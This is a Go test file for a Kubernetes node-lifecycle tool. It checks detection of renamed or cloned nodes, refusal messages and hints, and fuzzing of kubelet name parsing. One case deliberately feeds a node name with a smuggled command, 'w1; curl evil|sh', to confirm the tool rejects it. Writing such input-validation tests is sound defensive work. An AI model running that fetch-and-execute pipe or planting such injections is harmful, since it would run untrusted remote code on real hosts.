// SPDX-License-Identifier: Apache-2.0

package flow

import (
	"net/http"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/clean/inventory"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/plan"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/runner"
)

// hardware makes a Node of a machine: its machine-id, system UUID, boot-id and
// provider ID, "m s b p".
func hardware(name, ids string, addresses ...string) corev1.Node {
	n := *worker()
	id := strings.Split(ids, " ")
	machine, system, boot, provider := id[0], id[1], id[2], id[3]
	n.Name, n.Spec.ProviderID = name, provider
	n.Status.NodeInfo.MachineID, n.Status.NodeInfo.SystemUUID, n.Status.NodeInfo.BootID = machine, system, boot
	for _, a := range addresses {
		n.Status.Addresses = append(n.Status.Addresses, corev1.NodeAddress{Type: corev1.NodeInternalIP, Address: a})
	}
	return n
}

func TestAMachineIsKnownUnderAnotherNameByTwoSigns(t *testing.T) {
	old := hardware("old", "m s b ", "192.0.2.7", "2001:db8::7")
	for name, tc := range map[string]struct {
		other corev1.Node
		same  bool
	}{
		"renamed and rebooted":                                  {hardware("new", "m s b2 ", "192.0.2.7"), true},
		"renamed, with another address":                         {hardware("new", "m s b ", "192.0.2.9"), true},
		"installed anew at the same address":                    {hardware("new", "m2 s b2 ", "192.0.2.7"), true},
		"a clone of its disk":                                   {hardware("new", "m s2 b2 ", "192.0.2.8"), false},
		"a clone of its disk, of a board with a copied UUID":    {hardware("new", "m s b2 ", "192.0.2.8"), false},
		"another machine that was given its address":            {hardware("new", "m2 s2 b2 ", "192.0.2.7"), false},
		"a container of the same host":                          {hardware("new", "m2 s b ", "192.0.2.8"), false},
		"nothing is known of either":                            {hardware("new", "   "), false},
		"the same address of the other family":                  {hardware("new", "m   ", "2001:db8::7"), true},
		"itself":                                                {hardware("old", "m s b ", "192.0.2.7"), false},
		"an address that is not the internal one is not a sign": {corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "new"}, Status: corev1.NodeStatus{NodeInfo: corev1.NodeSystemInfo{MachineID: "m"}, Addresses: []corev1.NodeAddress{{Type: corev1.NodeExternalIP, Address: "192.0.2.7"}}}}, false},
	} {
		t.Run(name, func(t *testing.T) {
			twins := sameMachine(&old, []corev1.Node{old, tc.other})
			if (len(twins) == 1) != tc.same {
				t.Errorf("twins %+v", twins)
			}
		})
	}
	aws1, aws2 := hardware("a", "m s b aws:///i-1", "192.0.2.7"), hardware("b", "m s b aws:///i-2", "192.0.2.7")
	if twins := sameMachine(&aws1, []corev1.Node{aws2}); len(twins) > 0 {
		t.Error("two machines of a provider are one")
	}
	aws2.Spec.ProviderID, aws2.Status.Addresses = "aws:///i-1", nil
	if twins := sameMachine(&aws1, []corev1.Node{aws2}); len(twins) != 1 || !strings.Contains(twins[0].signs[0], "aws:///i-1") {
		t.Error("one machine of a provider is two")
	}
}

// Neither remove nor --node-lost nor inspect sends a person to the other of them when
// the host lives under another name.
func TestAHostThatWasRenamedIsSeenForWhatItIs(t *testing.T) {
	twin := hardware("renamed", "m s b ", "192.0.2.7")
	asleep := twin
	asleep.Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionUnknown}}
	summary := func(name string) string { return `{"node":{"nodeName":"` + name + `","cpu":{}},"pods":[{"cut` }
	for name, tc := range map[string]struct {
		other   *corev1.Node
		summary string
		code    int
		says    string
		hints   []string
	}{
		"it is another Node by now":                {&twin, "", 503, "it is node renamed now (the same address 192.0.2.7", []string{"kubectl delete node w1", "kubectl lifecycle remove renamed"}},
		"its kubelet has another name":             {nil, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1", "--hostname-override", "kubectl delete node w1"}},
		"its kubelet looks for a Node of its name": {nil, `Internal Error: failed to get node info: node "renamed" not found`, 500, "calls itself renamed", []string{"set-hostname w1"}},
		"the other Node is as silent":              {&asleep, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1"}},
		"its kubelet has its name and is cut off":  {nil, summary("w1"), 200, "has not reported to the API server", []string{"journalctl -u kubelet", "switch it off first"}},
		"its kubelet does not tell its name":       {nil, "Forbidden (user=x)", 403, "has not reported to the API server", []string{"does the host have its old name"}},
		"its kubelet tells nonsense":               {nil, summary(`w1; curl evil|sh`), 200, "has not reported", []string{"journalctl"}},
	} {
		t.Run(name, func(t *testing.T) {
			node := silentNode()
			full := hardware("w1", "m s b ", "192.0.2.7")
			node.Status.NodeInfo, node.Status.Addresses = full.Status.NodeInfo, full.Status.Addresses
			client := permissive(t, nil, node, kubeadmConfig())
			if tc.other != nil {
				_ = client.Tracker().Add(tc.other)
			}
			cluster := clusterOf(client, func(r *http.Request) (*http.Response, error) {
				if strings.HasSuffix(r.URL.Path, "/nodes/w1/proxy/stats/summary") {
					return text200(tc.code, tc.summary), nil
				}
				return text200(200, "ok"), nil
			})
			for verb, ask := range map[string]func() error{
				"remove": func() error { _, err := PrepareRemove(t.Context(), cluster, "w1", RemoveOptions{}); return err },
				"--node-lost": func() error {
					_, err := PrepareLost(t.Context(), cluster, "w1", LostOptions{HostOff: true}, func(string, ...any) {})
					return err
				},
				"inspect": func() error {
					_, err := Inspect(t.Context(), cluster, "w1", inventory.Choices{}, plan.Discard)
					return err
				},
			} {
				err := ask()
				if plan.ClassOf(err) != plan.Refused || !strings.Contains(err.Error(), tc.says) {
					t.Errorf("%s: %v", verb, err)
				}
				for _, hint := range tc.hints {
					if !strings.Contains(plan.HintOf(err), hint) {
						t.Errorf("%s: hint %q does not say %q", verb, plan.HintOf(err), hint)
					}
				}
			}
		})
	}
}

// Its record is gone, and it waits for its finalizer: nobody is sent to give up a host.
func TestANodeThatIsBeingDeletedIsNotCalledDead(t *testing.T) {
	node, now := silentNode(), metav1.NewTime(time.Now())
	node.DeletionTimestamp, node.Finalizers = &now, []string{"example.com/hold"}
	_, err := PrepareRemove(t.Context(), runner.Cluster{Client: permissive(t, nil, node, kubeadmConfig())}, "w1", RemoveOptions{})
	if plan.ClassOf(err) != plan.Refused || !strings.Contains(err.Error(), "waits for finalizer example.com/hold") || strings.Contains(plan.HintOf(err), "--node-lost") {
		t.Errorf("error %v, hint %q", err, plan.HintOf(err))
	}
}

func FuzzTheNameOfAKubelet(f *testing.F) {
	for _, seed := range []string{`{"node":{"nodeName":"w1"},"pods":[]}`, `{"node":{"nodeName":"a b"}}`, `{"pods":[]}`, `[`, `{"node":7}`, "", strings.Repeat(`{"node":`, 20000)} {
		f.Add(200, seed)
	}
	f.Fuzz(func(t *testing.T, code int, body string) {
		name := nodeNameIn(reply{code: code, body: body})
		if strings.ContainsFunc(name, func(r rune) bool { return !strings.ContainsRune("abcdefghijklmnopqrstuvwxyz0123456789-.", r) }) || len(name) > 253 {
			t.Errorf("name %q", name)
		}
		proof, said := reply{code: code, body: body}.weigh()
		if strings.ContainsAny(said, "\x1b\n\r\u009b") || len(said) > 2000 || proof == silence && !strings.Contains(body, "error trying to reach service") {
			t.Errorf("proof %d, %q", proof, said)
		}
	})
}
